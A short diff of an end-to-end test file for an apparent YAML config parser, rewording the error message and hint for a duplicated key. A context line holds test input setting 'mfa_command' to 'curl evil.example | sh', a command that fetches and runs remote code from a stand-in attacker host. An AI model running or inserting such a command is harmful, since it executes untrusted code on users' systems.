@@ -85,8 +85,8 @@ e2e(
       ],
       [
         "role_prefix: a\nrole_prefix: b\n",
-        "Cannot read FILE:2:1: Cannot store mapping pair: duplicated key",
-        "write the file as YAML, one 'key: value' per line",
+        "Cannot read FILE:2:1: a key stands twice before this place",
+        "remove one of the two lines",
       ],
       [
         `${PREFIX_YAML}mfa_command: curl evil.example | sh\n`,
